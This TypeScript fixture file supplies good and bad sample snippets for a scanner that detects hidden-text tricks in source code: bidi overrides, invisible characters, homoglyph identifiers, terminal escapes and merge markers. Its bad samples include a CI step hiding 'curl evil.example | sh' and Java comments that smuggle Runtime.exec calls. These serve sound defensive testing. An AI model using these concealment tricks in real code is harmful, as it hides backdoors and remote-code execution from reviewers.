// Cases of rules about hidden text, by rule.
import type { Cases } from "../rule-cases.ts";

export const HIDDEN_TEXT: Cases = {
  "bidi-control": {
    bad: [
      { path: "src/access.py", code: 'level = "user\u202E \u2066# only for admins\u2069 \u2066"' },
      { path: "src/login.c", code: "/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */" },
    ],
    good: [
      { path: "locales/he.json", code: '{ "name": "\u2068שלום\u2069" }' },
      { path: "src/bidi.ts", code: String.raw`const RLO = "\u202E";` },
    ],
  },
  "invisible-character": {
    bad: [
      { path: "src/auth.js", code: "function is\u200BAdmin() { return false; }" },
      { path: ".github/workflows/ci.yml", code: "steps:\n  # build\r  - run: curl evil.example | sh" },
      { path: "src/A.java", code: String.raw`// see below \u000a Runtime.getRuntime().exec(input);` },
      { path: "src/B.java", code: String.raw`/* see below \u002A/ Runtime.getRuntime().exec(input); /* */` },
      { path: "deploy/values.yaml", code: "a: 1 # see below\u0085privileged: true" },
      { path: "src/Program.cs", code: "// see below\u0085Run(input);" },
      { path: "README.md", code: "Read this.\u{E0049}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}" },
    ],
    good: [
      {
        path: "src/emoji.ts",
        code: 'const family = "👨‍👩‍👧"; const flag = "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}";',
      },
      { path: "locales/fa.json", code: '{ "books": "کتاب\u200Cها" }' },
      { path: "src/Lines.java", code: String.raw`String end = "\\u000a"; // and \u00e9` },
      { path: "src/lines.ts", code: String.raw`const end = "\u000a";` },
      { path: "docs/session.md", code: "10 %\r20 %\rdone" },
      { path: "tests/fixtures/session.txt", code: "10 %\r20 %\u0085done" },
      { path: "src/Program.cs", code: "\uFEFFusing System;" },
    ],
  },
  "mixed-script-identifier": {
    bad: [
      { path: "src/hello.py", code: "def say\u041Dello():\n    pass" },
      { path: "src/pay.ts", code: "const p\u0430ypal = connect();" },
    ],
    good: [
      { path: "src/math.py", code: "Δx = λ1 * μs + βeta" },
      { path: "src/messages.ru.ts", code: 'const title = "HTTP-запрос к SQLсерверу";' },
      { path: "src/unit.go", code: "const µs = 1000" },
    ],
  },
  "control-character": {
    bad: [
      { path: "scripts/notice.sh", code: 'echo "safe\u001B[1A\u001B[2K"' },
      { path: "src/key.py", code: 'SEPARATOR = "\u0000"' },
    ],
    good: [
      { path: "scripts/notice.sh", code: String.raw`printf '\033[2K\033[0m'` },
      { path: "Makefile", code: "RED = \u001B[31m\nall:\n\tcc main.c" },
      { path: "src/old.el", code: "\f\n;;; Section" },
    ],
  },
  "merge-marker": {
    bad: [
      { path: "src/app.ts", code: "<<<<<<< HEAD\nconst a = 1;\n=======\nconst a = 2;\n>>>>>>> feature" },
      {
        path: "config.yml",
        code: "port: 80\n<<<<<<< ours\nhost: a\n||||||| base\nhost: b\n=======\nhost: c\n>>>>>>> theirs",
      },
    ],
    good: [
      { path: "docs/usage.rst", code: "Usage\n=======\nRun it." },
      { path: "src/banner.py", code: "print('>>>>>>> done')\nprint('<<<<<<< start')" },
    ],
  },
};
